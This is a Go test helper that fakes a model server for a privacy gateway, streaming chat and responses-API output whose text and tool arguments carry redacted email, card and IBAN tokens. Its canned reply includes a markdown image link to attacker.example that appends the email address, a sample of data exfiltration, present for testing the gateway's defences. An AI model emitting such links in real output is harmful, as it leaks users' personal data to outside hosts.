package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"unicode/utf8"
)

// said is what the model of the tests says: in prose with signs of JSON, in a link
// that somebody made it write, and in the arguments of two tools.
func said(mail, card, iban, inLink string) string {
	return "Done: \"" + mail + "\" – card **" + card + "** (" + mail + ")\n• IBAN " + iban +
		". ![x](https://attacker.example/?q=" + inLink + ") [EMAIL_ADD"
}

func sendArguments(mail, card string) string {
	return `{"to":` + quoted(mail) + `,"text":` + quoted("Dear \"Jane\",\ncard\t"+card+" – noted\\") + `}`
}

func lookArguments(mail string) string { return `{"email":` + quoted(mail) + `}` }

// toChat answers a chat completion: at once, or in pieces that cut every token.
func toChat(w http.ResponseWriter, _ string, body []byte) {
	tokens := tokensIn(body)
	mail, card, iban := tokens["EMAIL_ADDRESS"], tokens["CREDIT_CARD"], tokens["IBAN_CODE"]
	text, send, look := said(mail, card, iban, mail), sendArguments(mail, card), lookArguments(mail)
	if !bytes.Contains(body, []byte(`"stream":true`)) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"id":"c1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":`+
			`{"role":"assistant","content":%s,"refusal":null,"tool_calls":[%s,%s]},"logprobs":null,"finish_reason":"tool_calls"}]}`,
			quoted(text), call("call_0", "send_mail", send), call("call_1", "look_up", look))
		return
	}
	out := newEvents(w)
	out.delta(`"role":"assistant","content":""`)
	out.delta(`"tool_calls":[{"index":0,` + call("call_0", "send_mail", "")[1:] + `]`)
	out.delta(`"tool_calls":[{"index":1,` + call("call_1", "look_up", "")[1:] + `]`)
	// The three texts come mixed, in pieces of other lengths each.
	texts, sends, looks := pieces(text, 1, 3, 7), pieces(send, 2, 5), pieces(look, 1, 4)
	for i := range max(len(texts), len(sends), len(looks)) {
		if i < len(texts) {
			out.delta(`"content":` + quoted(texts[i]))
		}
		if i < len(sends) {
			out.delta(`"tool_calls":[{"index":0,"function":{"arguments":` + quoted(sends[i]) + `}}]`)
		}
		if i < len(looks) {
			out.delta(`"tool_calls":[{"index":1,"function":{"arguments":` + quoted(looks[i]) + `}}]`)
		}
	}
	out.frame(`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}`)
	out.raw("data: [DONE]\n\n")
}

func call(id, name, arguments string) string {
	return `{"id":"` + id + `","type":"function","function":{"name":"` + name + `","arguments":` + quoted(arguments) + `}}`
}

// toResponses streams what the responses API does.
func toResponses(w http.ResponseWriter, _ string, body []byte) {
	tokens := tokensIn(body)
	mail, card, iban := tokens["EMAIL_ADDRESS"], tokens["CREDIT_CARD"], tokens["IBAN_CODE"]
	text := said(mail, card, iban, mail)
	part := func(text string) string {
		return `{"type":"output_text","annotations":[],"logprobs":[],"text":` + quoted(text) + `}`
	}
	item := func(status, content string) string {
		return `{"id":"msg_1","type":"message","status":"` + status + `","role":"assistant","content":[` + content + `]}`
	}
	response := func(status, output string) string {
		return `{"id":"resp_1","object":"response","created_at":1,"model":"m","status":"` + status + `","error":null,"output":[` + output + `]}`
	}
	const in = `"item_id":"msg_1","output_index":0,"content_index":0,`
	out := newEvents(w)
	out.event("response.created", `"response":`+response("in_progress", ""))
	out.event("response.output_item.added", `"output_index":0,"item":`+item("in_progress", ""))
	out.event("response.content_part.added", in+`"part":`+part(""))
	for _, piece := range pieces(text, 1, 3, 7) {
		out.event("response.output_text.delta", in+`"logprobs":[],"delta":`+quoted(piece))
	}
	out.event("response.output_text.done", in+`"logprobs":[],"text":`+quoted(text))
	out.event("response.content_part.done", in+`"part":`+part(text))
	out.event("response.output_item.done", `"output_index":0,"item":`+item("completed", part(text)))
	out.event("response.completed", `"response":`+response("completed", item("completed", part(text))))
}

// pieces cuts a text into pieces of so many bytes in turn, between characters.
func pieces(text string, lengths ...int) []string {
	var out []string
	for i := 0; len(text) > 0; i++ {
		n := min(lengths[i%len(lengths)], len(text))
		for n < len(text) && !utf8.RuneStart(text[n]) {
			n++
		}
		out, text = append(out, text[:n]), text[n:]
	}
	return out
}

// events writes an event stream whose frames are cut too: each goes out in two
// pieces, the cut wandering through it.
type events struct {
	w      io.Writer
	flush  func() error
	number int
}

func newEvents(w http.ResponseWriter) *events {
	w.Header().Set("Content-Type", "text/event-stream; charset=utf-8")
	return &events{w: w, flush: http.NewResponseController(w).Flush}
}

func (e *events) delta(members string) {
	e.frame(`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{` + members + `},"finish_reason":null}]}`)
}

func (e *events) event(kind, members string) {
	e.raw("event: " + kind + "\n")
	e.frame(fmt.Sprintf(`{"type":"%s","sequence_number":%d,%s}`, kind, e.number, members))
}

func (e *events) frame(data string) {
	if !json.Valid([]byte(data)) {
		panic("gateway: the model of the tests says what is no JSON: " + data)
	}
	e.raw("data: " + data + "\n\n")
}

func (e *events) raw(bytes string) {
	e.number++
	cut := e.number * 13 % len(bytes)
	for _, piece := range []string{bytes[:cut], bytes[cut:]} {
		_, _ = strings.NewReader(piece).WriteTo(e.w)
		_ = e.flush()
	}
}
